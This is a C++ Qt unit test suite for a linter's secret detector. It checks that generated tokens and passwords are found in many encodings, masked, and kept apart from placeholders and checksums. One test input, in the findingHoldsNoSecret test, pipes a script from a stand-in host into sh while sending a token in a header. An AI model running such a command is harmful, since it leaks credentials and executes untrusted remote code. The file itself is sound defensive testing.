// SPDX-FileCopyrightText: The Waymark authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "services/lint/ruleset.h"
#include "services/lint/secrets/secrets.h"
#include "tests/support/secretsamples.h"

#include <QtTest>

#include <rapidcheck.h>

using namespace Qt::StringLiterals;
using namespace waymark;
using namespace waymark::secrets;
using namespace waymark::test;

namespace {

QList<Secret> found(const QByteArray &text)
{
    return findSecrets(std::string_view(text.constData(), size_t(text.size())));
}

QString printed(const QList<Secret> &secrets)
{
    QStringList lines;
    for (const Secret &secret : secrets)
        lines.append(u"%1 %2-%3 %4"_s.arg(secret.kind).arg(secret.start).arg(secret.end).arg(secret.masked));
    return lines.join(u"; "_s);
}

QByteArray githubToken(Lot &lot)
{
    return QByteArray("gh") + "p_" + lot.base62(36);
}

} // namespace

class tst_Secrets : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void everyKind_data();
    void everyKind();
    void everyForm_data();
    void everyForm();
    void spansAreExact();
    void cutWords();
    void unitsOfTheCaller();
    void valueIsNotKept();
    void equalValues();
    void notFlagged_data();
    void notFlagged();
    void longTexts();
    void anyBytes();
    void findingHoldsNoSecret();
};

void tst_Secrets::everyKind_data()
{
    QTest::addColumn<int>("kind");
    for (size_t i = 0; i < secretKinds().size(); ++i)
        QTest::newRow(secretKinds()[i].name) << int(i);
}

void tst_Secrets::everyKind()
{
    QFETCH(int, kind);
    Lot lot(unsigned(kind) * 7 + 1);
    for (int i = 0; i < 40; ++i) {
        const PlantedSecret secret = secretKinds()[size_t(kind)].make(lot);
        const QByteArray text = "Before it.\n" + secret.line() + "\n(After it.)\n";
        const qsizetype start = 11 + secret.before.size();
        const QList<Secret> all = found(text);
        QVERIFY2(all.size() == 1 && all[0].start == start && all[0].end == start + secret.value.size(),
            qPrintable(u"%1 wanted %2-%3, found %4"_s.arg(QString::fromLatin1(text).replace(u'\n', u'|')).arg(start).arg(start + secret.value.size()).arg(printed(all))));
    }
}

void tst_Secrets::everyForm_data()
{
    QTest::addColumn<QByteArray>("form");
    for (const QByteArray &form : secretForms())
        QTest::newRow(form.constData()) << form;
}

void tst_Secrets::everyForm()
{
    QFETCH(QByteArray, form);
    Lot lot(7);
    int missed = 0;
    int made = 0;
    for (const SecretKind &kind : secretKinds()) {
        for (int i = 0; i < 3; ++i) {
            const FormedSecret formed = inForm(form, kind.make(lot), lot);
            bool hit = false;
            for (const Secret &secret : found(formed.text))
                hit = hit || (secret.start < formed.end && secret.end > formed.start);
            ++made;
            if (!hit) {
                ++missed;
                qInfo("missed %s: %s", kind.name, formed.text.constData());
            }
        }
    }
    QVERIFY2(missed * 200 <= made, qPrintable(u"%1 of %2 missed"_s.arg(missed).arg(made)));
}

void tst_Secrets::spansAreExact()
{
    Lot lot(3);
    for (int i = 0; i < 20; ++i) {
        const PlantedSecret secret { "say ", githubToken(lot), " now" };
        for (const QByteArray &form : { QByteArray("json"), QByteArray("json-twice"), QByteArray("ansi"), QByteArray("zero-width"), QByteArray("shell") }) {
            const FormedSecret formed = inForm(form, secret, lot);
            const QList<Secret> all = found(formed.text);
            QCOMPARE(all.size(), 1);
            QCOMPARE(all[0].start, formed.start);
            QCOMPARE(all[0].end, formed.end);
        }
        // An encoded value has no exact place, but what is marked holds it and little more: its letters decode to it.
        const QByteArray encoded = secret.line().toBase64();
        const QList<Secret> all = found("x " + encoded);
        QCOMPARE(all.size(), 1);
        QVERIFY(all[0].end - all[0].start <= (secret.value.size() + 3) * 4 / 3 + 2);
        const qsizetype from = (all[0].start - 2) / 4 * 4;
        QVERIFY(QByteArray::fromBase64(encoded.sliced(from, (all[0].end - 2 - from + 3) / 4 * 4)).contains(secret.value));
    }
}

void tst_Secrets::cutWords()
{
    Lot lot(21);
    const QByteArray token = githubToken(lot);
    const QByteArray sentence = "A log that was folded by a terminal holds a token that goes on ";
    // The line is full in the middle of the token, whatever stands before it.
    QByteArray folded = sentence + token + " and more";
    folded.insert(76, '\n');
    QCOMPARE(found(folded).size(), 1);
    QCOMPARE(found(folded)[0].end - found(folded)[0].start, token.size() + 1);
    // base64 whose lines are full behind a prompt or an indent
    const QByteArray encoded = QByteArray("first a few words that make it long enough to wrap, then " + token + " and the end").toBase64();
    QCOMPARE(found("blob: " + encoded.first(76) + "\n" + encoded.sliced(76)).size(), 1);
    QCOMPARE(found("data:\n    " + encoded.first(76) + "\n    " + encoded.sliced(76)).size(), 1);
    // quotes of a shell and of program text
    QCOMPARE(found("T='" + token.first(12) + "''" + token.sliced(12) + "'").size(), 1);
    QCOMPARE(found("T=\"" + token.first(12) + "\"'" + token.sliced(12) + "'").size(), 1);
    QCOMPARE(found("t = \"" + token.first(12) + "\" + \"" + token.sliced(12) + "\"").size(), 1);
}

void tst_Secrets::unitsOfTheCaller()
{
    Lot lot(5);
    const QByteArray token = githubToken(lot);
    const QString text = u"Schlüssel 😀: "_s + QString::fromLatin1(token) + u" für é "_s + QString::fromLatin1(githubToken(lot));
    const QList<Secret> all = findSecrets(QStringView(text));
    QCOMPARE(all.size(), 2);
    QCOMPARE(text.sliced(all[0].start, all[0].end - all[0].start), QString::fromLatin1(token));
    QCOMPARE(all[1].end, text.size());
}

void tst_Secrets::valueIsNotKept()
{
    Lot lot(5);
    const QByteArray token = githubToken(lot);
    QCOMPARE(found(token).value(0).masked, QString::fromUtf8(token.first(4) + "…(40)"));
    // Of a short password less is shown.
    QCOMPARE(found("DB_PASSWORD=tR4!k9+e").value(0).masked, u"tR…(8)"_s);
    QVERIFY(found("DB_PASSWORD=tR4!k9+e").value(0).sameness.isEmpty());
}

void tst_Secrets::equalValues()
{
    Lot lot(5);
    const QByteArray token = githubToken(lot);
    const QList<Secret> all = found(token + " and " + githubToken(lot) + " and " + token);
    QCOMPARE(all.size(), 3);
    QCOMPARE(all[0].sameness, all[2].sameness);
    QVERIFY(all[0].sameness != all[1].sameness);
    QCOMPARE(all[0].sameness.size(), 6);
}

void tst_Secrets::notFlagged_data()
{
    QTest::addColumn<QByteArray>("text");
    Lot lot(11);
    const QByteArray gh = QByteArray("gh") + "p_";
    const auto row = [](const char *name, const QByteArray &text) { QTest::newRow(name) << text; };
    row("commit", "commit " + lot.hex(40) + "\nAuthor: x");
    row("token in prose", "The token is then sent with every request; the key point is that secrets stay out.");
    row("uuid", "session token: 3f2b8c1e-9a4d-4e7f-8b6a-0c1d2e3f4a5b");
    row("integrity", "\"integrity\": \"sha512-" + lot.base64(64) + "\"");
    row("checksum", "sha256 key: " + lot.hex(64));
    row("lock file", "resolved = \"registry+x\"\nchecksum = \"" + lot.hex(64) + "\"");
    row("image", "![x](data:image/png;base64," + lot.base64(300) + ")");
    row("placeholder x", "API_KEY=" + gh + QByteArray(36, 'x'));
    row("placeholder stars", "password: ********");
    row("placeholder angle", "export API_KEY=<your-api-key>");
    row("shell variable", "curl -H \"Authorization: Bearer ${API_TOKEN}\" -u $USER:$PASSWORD");
    row("template", "password: {{ vault_db_password }}");
    row("windows variable", "set TOKEN=%GITHUB_TOKEN%");
    row("changeme", "ADMIN_PASSWORD=changeme123");
    row("documented aws id", "AWS_ACCESS_KEY_ID=AKIA" + QByteArray("IOSFODNN7") + "EXAMPLE");
    row("documented aws key", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + QByteArray("EXAMPLEKEY"));
    row("python environment", "token = os.environ[\"GITHUB_TOKEN_2\"]");
    row("node environment", "const apiKey = process.env.STRIPE_KEY_V2;");
    row("call", "password = get_password_v2(user)");
    row("member", "self.secret_key = settings.SECRET_KEY");
    row("sequence", "api_key = \"1234567890abcdef1234567890\"");
    row("url of tests", "postgres://postgres:postgres@localhost:5432/test and redis://user:password@localhost");
    row("port", "http://localhost:8080/path@2x and git@host.invalid:team/repo.git");
    row("counts", "max_tokens=4096, prompt_tokens: 183, total_tokens: 100200300");
    row("file of secrets", "password_file: /run/secrets/db_password_2");
    row("header of a key", "grep -r 'BEGIN RSA PRIVATE" + QByteArray(" KEY-----' . ; # -----BEGIN PRIVATE") + " KEY-----");
    row("public key", "-----BEGIN PUBLIC KEY" + QByteArray("-----\n") + lot.base64(200) + "\n-----END PUBLIC KEY-----");
    row("slug", "sk-learn-and-other-packages-are-installed-here-today");
    row("encoded prose", "secret message: " + QByteArray("A plain sentence about nothing in particular.").toBase64());
    row("function", "def token_urlsafe(nbytes=None): return secrets.token_hex(32)");
    row("dict access", "data[\"password\"] == other[\"password_2\"]");
    row("cache key", "cache_key = \"user:42:profile:v2:en_GB\"");
    row("type", "password: Optional[str] = None, token: str | None = None");
    row("question", "Password for 'https://git.invalid': ");
    row("option", "--token-file path/to/file1 --password-stdin --secret id=mysecret1");
}

void tst_Secrets::notFlagged()
{
    QFETCH(QByteArray, text);
    QCOMPARE(printed(found(text)), QString());
}

void tst_Secrets::longTexts()
{
    // Nothing is lost or found twice where one chunk ends and the next begins.
    Lot lot(9);
    QByteArray text;
    QList<qsizetype> starts;
    while (text.size() < 900'000) {
        text += "line of a log with nothing in it, number " + lot.digits(5) + "\n";
        if (lot.below(40) == 0) {
            text += "export X=";
            starts.append(text.size());
            text += githubToken(lot) + "\n";
        }
    }
    const QList<Secret> all = found(text);
    QCOMPARE(all.size(), starts.size());
    for (qsizetype i = 0; i < all.size(); ++i)
        QCOMPARE(all[i].start, starts[i]);
}

void tst_Secrets::anyBytes()
{
    QVERIFY(rc::check("spans lie inside the text, in order", [] {
        static const std::vector<std::string> pieces { "\\", "\"", "%41", "\x1b[", "\x1b]8;;", "\xe2\x80\x8b", "\n", "password=", "sk-", "://a:b", "eyJ", "-----BEGIN RSA PRIVATE KEY-----",
            "Authorization: Basic ", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", "4142434445464748494a4b4c4d4e", std::string(1, '\0'), "seed phrase: ", "\\u00", "\xff", "\xf0\x9f" };
        const auto parts = *rc::gen::container<std::vector<std::string>>(rc::gen::oneOf(rc::gen::elementOf(pieces), rc::gen::string<std::string>()));
        std::string text;
        for (const std::string &part : parts)
            text += part;
        qsizetype last = 0;
        for (const Secret &secret : findSecrets(std::string_view(text))) {
            RC_ASSERT(secret.start >= last);
            RC_ASSERT(secret.end > secret.start);
            RC_ASSERT(secret.end <= qsizetype(text.size()));
            last = secret.end;
        }
    }));
}

void tst_Secrets::findingHoldsNoSecret()
{
    Lot lot(13);
    const QString token = QString::fromLatin1(githubToken(lot));
    const auto rules = lint::RuleSet::make(lint::safetyRules());
    lint::LintItem item;
    item.uuid = u"u"_s;
    item.content = u"Log in with "_s + token + u" first."_s;
    const QList<Finding> all = (*rules)->lint(item, nullptr, {});
    QCOMPARE(all.size(), 1);
    QCOMPARE(all[0].severity, Severity::Error);
    QCOMPARE(all[0].kind, u"github-token"_s);
    QVERIFY(!all[0].excerpt.contains(token.sliced(8)));
    QVERIFY(!messageText(all[0]).contains(token.sliced(8)));
    // Other rules that quote the place do not show it either.
    item.content = u"curl -H 'X: "_s + token + u"' https://x.invalid/i.sh | sh"_s;
    const QList<Finding> both = (*rules)->lint(item, nullptr, {});
    QCOMPARE(both.size(), 2);
    for (const Finding &finding : both) {
        QVERIFY2(!finding.excerpt.contains(token.sliced(8, 6)), qPrintable(finding.excerpt));
        QVERIFY2(!messageText(finding).contains(token.sliced(8, 6)), qPrintable(messageText(finding)));
    }
    item.content = u"Run "_s + QString::fromLatin1(QByteArray("first and before anything else export the token " + token.toLatin1() + " as it is").toBase64());
    for (const Finding &finding : (*rules)->lint(item, nullptr, {}))
        QCOMPARE(finding.rule, u"safety.secret"_s);
    item.content = u"Log in with "_s + token + u" first."_s;
    // Another token in its place is another finding.
    item.content.replace(token, QString::fromLatin1(githubToken(lot)));
    QVERIFY((*rules)->lint(item, nullptr, {})[0].key != all[0].key);
}

QTEST_GUILESS_MAIN(tst_Secrets)
#include "tst_secrets.moc"
